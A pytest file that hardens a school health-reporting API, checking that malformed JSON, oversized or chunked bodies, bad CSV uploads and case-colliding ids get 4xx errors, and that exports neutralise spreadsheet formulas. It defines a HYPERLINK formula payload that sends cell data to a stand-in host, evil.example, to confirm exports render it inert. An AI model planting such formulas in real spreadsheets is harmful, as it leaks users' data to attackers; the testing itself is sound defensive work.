"""Bad input gets a 4xx in the API's error shape, never a 500 (issue 12, items 10-13, 15).

Through the running app against the real server (embedded, or ``COUCHDB_URL``): deeply
nested or otherwise unusable JSON, bad verification lists, bodies over the route's limit
(also chunked, through a real HTTP server), invalid UTF-8, spreadsheet formula injection
in every export, school and county ids that would share a database, and the ``errors``
object of import and correction 422s.
"""

from __future__ import annotations

import base64
import copy
import csv
import http.client
import io
import socket
import threading
import uuid
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mobile_schema import examples
from server.api import JSON_MAX_BYTES, MAX_JSON_DEPTH, UPLOAD_MAX_BYTES
from server.spreadsheet import parse_count, safe_cell
from sync.provision import provision_core, provision_school, school_db_name

PASSWORD = "hardening-pw-123"
RUN = uuid.uuid4().hex[:8]
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def basic(name: str) -> dict:
    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{PASSWORD}".encode()).decode()}


@pytest.fixture(scope="module")
def area(couch):
    """A run-unique county with a school named like a formula, a provisioned school with a
    report, an admin and the county's officer."""
    provision_core(couch)
    ids = {"p": f"hp{RUN}", "c": f"hc{RUN}", "s": f"hs{RUN}", "evil": f"he{RUN}", "day": "2026-11-20",
           "admin": f"hadm_{RUN}", "officer": f"hoff_{RUN}"}
    couch.db("registry").bulk_docs([
        {"_id": f"prefecture:{ids['p']}", "type": "prefecture", "name": "Hardening prefecture"},
        {"_id": f"county:{ids['c']}", "type": "county", "prefecture_id": ids["p"], "name": "Hardening county"},
        {"_id": f"school:{ids['s']}", "type": "school", "county_id": ids["c"], "prefecture_id": ids["p"],
         "name": "Plain school", "opened": "2020-01-01", "closed": None},
        {"_id": f"school:{ids['evil']}", "type": "school", "county_id": ids["c"], "prefecture_id": ids["p"],
         "name": EVIL_NAME, "opened": "2020-01-01", "closed": None}])
    provision_school(couch, ids["s"])
    report = copy.deepcopy(examples.daily_health(date=ids["day"]))
    report["school_id"] = ids["s"]
    couch.db(school_db_name(ids["s"])).put(report)
    couch.put_user(ids["admin"], password=PASSWORD, roles=["admin"])
    couch.put_user(ids["officer"], password=PASSWORD, roles=[f"county:{ids['c']}"])
    yield ids
    for name in (ids["admin"], ids["officer"]):
        couch.delete_user(name)
    couch.db(school_db_name(ids["s"])).delete_database()
    registry = couch.db("registry")
    for row in registry.all_docs(include_docs=True)["rows"]:
        if RUN in row["id"]:
            registry.delete(row["id"], row["doc"]["_rev"])


def assert_error_shape(answer, status: int) -> dict:
    """The README's error shape: ``{code, status, message, errors?}`` with ``errors`` an object."""
    assert answer.status_code == status, (answer.status_code, answer.get_data(as_text=True)[:300])
    body = answer.get_json()
    assert body["code"] == status and body["status"] and body["message"], body
    assert isinstance(body.get("errors", {}), dict), body
    return body


# -- JSON bodies (items 11, 15) -------------------------------------------------------------------

def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def corrections_url(area) -> str:
    return f"/api/v1/schools/{area['s']}/reports/{area['day']}/corrections"


@pytest.mark.parametrize("body", [
    nested(100_000),                                       # RecursionError in json.loads
    b'{"username": "a", "password": "b", "label": ' + nested(MAX_JSON_DEPTH + 1) + b"}",
    b'{"username": "a", "password": NaN}',                 # not JSON
    b'{"username": "a", "password": "' + b"\xff\xfe" + b'"}',  # not UTF-8
    b'{"username": "a", "password": "\\ud800"}',          # an unpaired surrogate
    b'{"username": "a", "password": ' + b"9" * 5000 + b"}",  # over Python's int digit limit
], ids=["deep", "over-depth", "nan", "not-utf8", "surrogate", "huge-int"])
def test_unusable_json_to_the_public_enrol_endpoint_is_a_400(client, body):
    answer = client.post("/api/v1/devices/enrol", data=body, content_type="application/json")
    body = assert_error_shape(answer, 400)
    assert "json" in body["errors"]


@pytest.mark.parametrize("body", [
    b'{"reason": "x", "changes": {"students_present": ' + nested(100_000) + b"}}",
    b'{"reason": "x", "changes": {"notes": "\\udfff"}}',
], ids=["deep", "surrogate"])
def test_unusable_json_to_corrections_is_a_400_and_changes_nothing(client, couch, area, body):
    before = couch.db(school_db_name(area["s"])).get(f"report:daily_health:{area['day']}")["_rev"]
    answer = client.post(corrections_url(area), data=body, content_type="application/json",
                         headers=basic(area["officer"]))
    assert_error_shape(answer, 400)
    assert couch.db(school_db_name(area["s"])).get(f"report:daily_health:{area['day']}")["_rev"] == before


def test_nested_values_within_the_depth_are_refused_by_validation_not_a_500(client, area):
    value: object = 1
    for _ in range(MAX_JSON_DEPTH - 4):
        value = [value]
    answer = client.post(corrections_url(area), json={"reason": "x", "changes": {"students_present": value}},
                         headers=basic(area["officer"]))
    assert_error_shape(answer, 422)


def test_the_replication_api_reads_json_the_same_way(client, area):
    answer = client.post("/api/v1/admin/replications", data=nested(100_000), content_type="application/json",
                         headers=basic(area["admin"]))
    assert_error_shape(answer, 400)


def test_a_correction_422_has_errors_as_an_object(client, area):
    answer = client.post(corrections_url(area), json={"reason": "typo", "changes": {"students_present": 100_000}},
                         headers=basic(area["officer"]))
    errors = assert_error_shape(answer, 422)["errors"]
    assert "data.students_present" in errors["report"], errors
    assert all(problem["code"] and problem["message"] for problem in errors["report"]["data.students_present"])


# -- request size (item 12) -----------------------------------------------------------------------

def test_a_30_mb_body_to_the_public_enrol_endpoint_is_a_413_in_the_error_shape(client):
    answer = client.post("/api/v1/devices/enrol", data=b"[" + b" " * (30 * 1024 * 1024) + b"]",
                         content_type="application/json")
    assert "MB" in assert_error_shape(answer, 413)["message"]


def test_json_over_the_api_limit_is_a_413_but_an_upload_of_that_size_is_read(client, area):
    padding = "x" * (JSON_MAX_BYTES + 1000)
    answer = client.post(corrections_url(area), json={"reason": padding, "changes": {"notes": "a"}},
                         headers=basic(area["officer"]))
    assert_error_shape(answer, 413)
    # A verification list of the same size is under the upload limit: it is read and checked (422).
    text = "school_id,date,suspected,confirmed\n" + f"{area['s']},2026-11-20,1,0\n" * 1 + padding
    answer = client.post(f"/api/v1/counties/{area['c']}/verification", data=text, content_type="text/csv",
                         headers=basic(area["officer"]))
    assert_error_shape(answer, 422)


def chunked_post(base_url: str, path: str, headers: dict, size: int) -> tuple[int, bytes]:
    """POST ``size`` bytes with ``Transfer-Encoding: chunked`` (no Content-Length); the status
    and body of the answer. The server may answer and close before the body is all sent."""
    url = urlsplit(base_url)
    sock = socket.create_connection((url.hostname, url.port), timeout=30)
    head = [f"POST {path} HTTP/1.1", f"Host: {url.netloc}", "Transfer-Encoding: chunked", "Connection: close"]
    head += [f"{k}: {v}" for k, v in headers.items()]
    sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())

    def send_body():
        chunk = b"s1,2026-11-20,1,0\n" * 3000
        sent = 0
        try:
            while sent < size:
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
            sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server answered and closed: what we want

    sender = threading.Thread(target=send_body, daemon=True)
    sender.start()
    try:
        response = http.client.HTTPResponse(sock)
        response.begin()
        return response.status, response.read()
    finally:
        sock.shutdown(socket.SHUT_RDWR)  # wakes the sender if the server stopped reading
        sock.close()
        sender.join(timeout=10)


@pytest.mark.parametrize("path,content_type", [
    ("/api/v1/counties/{c}/verification", "text/csv"),
    ("/api/v1/devices/enrol", "application/json"),
    ("/api/v1/admin/registry/import?kind=schools", "multipart/form-data; boundary=xyz"),
])
def test_a_chunked_body_over_the_limit_is_cut_off_with_a_413(live_server, area, path, content_type):
    headers = {"Content-Type": content_type, "Accept": "application/json",
               **basic(area["officer"] if "counties" in path else area["admin"])}
    status, body = chunked_post(live_server, path.format(c=area["c"]), headers, int(3.9 * 1024 * 1024))
    assert status == 413, body[:300]
    assert b'"code": 413' in body or b'"code":413' in body


def test_a_chunked_upload_under_the_limit_is_read_whole(live_server, area):
    headers = {"Content-Type": "text/csv", **basic(area["officer"])}
    status, body = chunked_post(live_server, f"/api/v1/counties/{area['c']}/verification", headers,
                                UPLOAD_MAX_BYTES // 2)
    assert status == 422, body[:300]  # read to the end, then checked: its first line is no header
    assert b"header" in body


def test_a_too_large_form_upload_from_a_page_gets_a_readable_page(client, area):
    from werkzeug.datastructures import FileStorage
    from werkzeug.test import encode_multipart

    # encoded here, in memory: the test client would spool it to a file it never closes
    boundary, body = encode_multipart({"file": FileStorage(io.BytesIO(b"x" * (UPLOAD_MAX_BYTES + 1)), "big.csv")})
    answer = client.post("/admin/schools", data=body, content_type=f"multipart/form-data; boundary={boundary}",
                         headers={"Accept": "text/html", **basic(area["admin"])})
    assert answer.status_code == 413
    assert answer.mimetype == "text/html" and "2 MB" in answer.get_data(as_text=True)


# -- verification lists (items 11, 15) ------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "{s},2026-11-20,1,0,surplus",        # more values than columns (was a 500)
    "{s},2026-11-20,²,0",                # "²".isdigit() but int("²") fails (was a 500)
    "{s},2026-11-20,٣,0",                # Arabic-Indic digit: int() reads it
    "{s},2026-11-20,100000000000000000000000,0",
    "{s},2026-11-20,1000001,0",
    "{s},0001-01-01,1,0",
    "{s},9999-12-31,1,0",
    "{s},+2026-11-20,1,0",
    "{s},2026-11-20," + "1" * 200_000 + ",0",  # over csv's field size limit (was a 500)
], ids=["extra-values", "superscript", "arabic-indic", "1e23", "over-max", "year-1", "year-9999", "plus-date",
        "huge-field"])
def test_a_bad_verification_line_is_a_422_and_nothing_is_stored(client, area, line):
    url = f"/api/v1/counties/{area['c']}/verification"
    before = client.get(url, headers=basic(area["officer"])).get_json()["upload"]
    text = "school_id,date,suspected,confirmed\n" + line.format(s=area["s"]) + "\n"
    answer = client.post(url, data=text.encode(), content_type="text/csv", headers=basic(area["officer"]))
    errors = assert_error_shape(answer, 422)["errors"]
    assert "line 2" in errors or "file" in errors
    assert client.get(url, headers=basic(area["officer"])).get_json()["upload"] == before


@pytest.mark.parametrize("as_form", [False, True], ids=["text-csv", "form-file"])
def test_a_verification_list_that_is_not_utf8_is_refused(client, area, as_form):
    url = f"/api/v1/counties/{area['c']}/verification"
    data = f"school_id,date,suspected,confirmed\n{area['s']},2026-11-20,1,0\n".encode() + b"\xff\xfe,\n"
    if as_form:
        answer = client.post(url, data={"file": (io.BytesIO(data), "list.csv")}, content_type="multipart/form-data",
                             headers=basic(area["officer"]))
    else:
        answer = client.post(url, data=data, content_type="text/csv", headers=basic(area["officer"]))
    assert "file" in assert_error_shape(answer, 422)["errors"]


def test_a_good_verification_list_is_still_accepted(client, area):
    text = f"school_id,date,suspected,confirmed\n{area['s']},2026-11-20,1000000,0\n"
    answer = client.post(f"/api/v1/counties/{area['c']}/verification", data=text, content_type="text/csv",
                         headers=basic(area["officer"]))
    assert answer.status_code == 201, answer.get_json()


@given(st.text(max_size=12))
def test_parse_count_takes_only_ascii_digits_up_to_the_maximum(text):
    try:
        value = parse_count(text)
    except ValueError:
        assert not (text.isascii() and text.isdigit() and int(text) <= 1_000_000)
    else:
        assert text.isascii() and text.isdigit() and value == int(text) <= 1_000_000


# -- school ids that differ only in case (item 10) ------------------------------------------------

def csv_bytes(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def import_csv(client, area, rows: list[list[str]], kind: str):
    return client.post("/api/v1/admin/registry/import", query_string={"kind": kind}, headers=basic(area["admin"]),
                       data={"file": (io.BytesIO(csv_bytes(rows)), f"{kind}.csv")}, content_type="multipart/form-data")


def test_school_ids_differing_only_in_case_are_refused_within_the_file(client, couch, area):
    rows = [["id", "county_id", "name", "opened"], [f"XSS{RUN}", area["c"], "Upper", "2021-09-01"],
            [f"xss{RUN}", area["c"], "Lower", "2021-09-01"]]
    answer = import_csv(client, area, rows, "schools")
    problems = assert_error_shape(answer, 422)["errors"]["rows"]
    assert [p["line"] for p in problems] == [3], problems
    assert "share database" in problems[0]["reason"] and f"XSS{RUN}" in problems[0]["reason"]
    assert couch.db("registry").get_or_none(f"school:XSS{RUN}") is None


def test_a_school_or_county_id_colliding_with_the_registry_is_refused(client, couch, area):
    rows = [["id", "county_id", "name", "opened"], [area["s"].upper(), area["c"], "Shadow", "2021-09-01"]]
    problems = assert_error_shape(import_csv(client, area, rows, "schools"), 422)["errors"]["rows"]
    assert "share database" in problems[0]["reason"] and area["s"] in problems[0]["reason"]
    assert couch.db("registry").get_or_none(f"school:{area['s'].upper()}") is None
    county = [["id", "prefecture_id", "name"], [area["c"].upper(), area["p"], "Shadow county"]]
    problems = assert_error_shape(import_csv(client, area, county, "counties"), 422)["errors"]["rows"]
    assert "share database" in problems[0]["reason"]
    # the same id again is an update, not a collision
    again = [["id", "county_id", "name", "opened"], [area["s"], area["c"], "Plain school", "2020-01-01"]]
    assert import_csv(client, area, again, "schools").status_code == 200


def test_an_import_422_has_errors_as_an_object_with_the_rows(client, area):
    rows = [["id", "county_id", "name", "opened"], ["bad id!", area["c"], "X", "2021-09-01"]]
    errors = assert_error_shape(import_csv(client, area, rows, "schools"), 422)["errors"]
    assert set(errors) == {"rows"} and errors["rows"][0]["line"] == 2


# -- formula injection in exports (item 13) -------------------------------------------------------

def test_formula_text_is_inert_in_every_csv_export(client, area):
    for path in (f"/api/v1/summaries/county/{area['c']}/schools?format=csv&from=2026-11-18&to=2026-11-20",
                 f"/api/v1/counties/{area['c']}/missing?format=csv&date=2026-11-20"):
        answer = client.get(path, headers=basic(area["officer"]))
        assert answer.status_code == 200, path
        cells = [cell for row in csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff")))
                 for cell in row]
        assert "'" + EVIL_NAME in cells, path
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:].isdigit())], path


def test_formula_text_is_plain_text_in_xlsx_and_numbers_stay_numbers(client, area):
    from openpyxl import load_workbook

    answer = client.get(f"/api/v1/counties/{area['c']}/missing?format=xlsx&date=2026-11-20",
                        headers=basic(area["officer"]))
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.get_data())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + EVIL_NAME in [c.value for c in cells]
    assert any(isinstance(c.value, int) for c in cells)  # consecutive school days stay numbers


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("-3", "-3"), ("+2.5", "+2.5"), (-3, -3), (2.5, 2.5), (None, None), ("plain", "plain"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
